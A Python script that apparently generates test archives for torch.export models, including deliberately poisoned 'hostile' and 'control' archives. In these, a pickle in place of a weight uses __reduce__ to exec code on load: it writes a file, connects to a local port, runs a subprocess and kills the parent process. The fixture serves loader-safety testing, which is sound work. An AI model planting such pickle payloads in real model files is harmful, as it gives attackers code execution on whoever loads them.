"""Archives of torch.export for the tests: python make_archives.py FOLDER CODE_TARGET.

Writes regression.pt2, classifier.pt2, several.pt2, fixed.pt2 and hostile.pt2, and prints one JSON
object with what PyTorch itself answers. several.pt2 gives none of its answers a name. hostile.pt2 runs code when it is read: it writes into the folder CODE_TARGET
names, connects to the port it names and starts a program. `opened` says whether it did here, unwalled.
"""

from __future__ import annotations

import json
import os
import pickle
import sys
import zipfile
from pathlib import Path

import torch

FOLDER, TARGET = Path(sys.argv[1]), json.loads(sys.argv[2])
ROWS = [[0.5, -1.25, 2.0], [3.0, 0.0, -0.5]]


class Regression(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.layers = torch.nn.Sequential(
            torch.nn.Linear(3, 16), torch.nn.ReLU(), torch.nn.Linear(16, 1)
        )

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.layers(x)


class Classifier(Regression):
    def forward(self, x: torch.Tensor) -> dict[str, torch.Tensor]:
        score = torch.sigmoid(self.layers(x)[:, 0])
        return {"label": (score > 0.5).long(), "probabilities": torch.stack([1 - score, score], 1)}


class Several(Regression):
    """What is inside, scores of sixteen classes, and a sum."""

    def forward(self, x: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor, torch.Tensor]:
        return self.layers[0](x), self.layers[:2](x), x.sum(1)


class Evil:
    def __init__(self, target: dict[str, object]) -> None:
        self.target = target

    def __reduce__(self):  # type: ignore[no-untyped-def]
        code = (
            "import os, socket, subprocess\n"
            "def attempt(what):\n"
            "    try: what()\n"
            "    except BaseException: pass\n"
            f"attempt(lambda: open({self.target['file']!r}, 'w').write('read'))\n"
            f"attempt(lambda: socket.create_connection(('127.0.0.1', {self.target['port']}), 5).close())\n"
            f"attempt(lambda: subprocess.run(['touch', {self.target['file'] + '-program'!r}]))\n"
            f"attempt(lambda: os.kill(os.getppid(), 9) if {self.target['kill']} else None)\n"
        )
        return exec, (code, {})


def export(name: str, model: torch.nn.Module, dynamic: bool = True) -> None:
    x = torch.tensor(ROWS)
    shapes = {"x": {0: torch.export.Dim("rows", min=1, max=4096)}} if dynamic else None
    program = torch.export.export(model.eval(), (x,), dynamic_shapes=shapes)
    torch.export.save(program, FOLDER / f"{name}.pt2")


def poison(source: str, name: str, target: dict[str, object]) -> None:
    """The same archive with a pickle where its first weight was."""
    with (
        zipfile.ZipFile(FOLDER / f"{source}.pt2") as old,
        zipfile.ZipFile(FOLDER / f"{name}.pt2", "w") as new,
    ):
        for entry in old.infolist():
            content = old.read(entry)
            if entry.filename.endswith("model_weights_config.json"):
                config = json.loads(content)
                first = next(iter(config["config"].values()))
                first["use_pickle"] = True
                content = json.dumps(config).encode()
            if entry.filename.endswith("weights/weight_0"):
                content = pickle.dumps(Evil(target))
            new.writestr(entry.filename, content)


def main() -> None:
    torch.manual_seed(7)
    regression, classifier, several = Regression(), Classifier(), Several()
    export("regression", regression)
    export("classifier", classifier)
    export("several", several)
    export("fixed", regression, dynamic=False)
    poison("regression", "hostile", {**TARGET, "kill": True})
    poison("regression", "control", {**TARGET, "file": TARGET["control"], "kill": False})
    try:
        torch.export.load(FOLDER / "control.pt2")
    except Exception:
        pass
    answers = classifier(torch.tensor(ROWS))
    inner, scores, sums = several(torch.tensor(ROWS))
    print(
        json.dumps(
            {
                "rows": ROWS,
                "regression": regression(torch.tensor(ROWS))[:, 0].tolist(),
                "labels": answers["label"].tolist(),
                "probabilities": answers["probabilities"].tolist(),
                "inner": inner.tolist(),
                "classes": scores.argmax(1).tolist(),
                "shares": torch.softmax(scores, 1).tolist(),
                "sums": sums.tolist(),
                "opened": os.path.exists(TARGET["control"]),
            }
        )
    )


main()
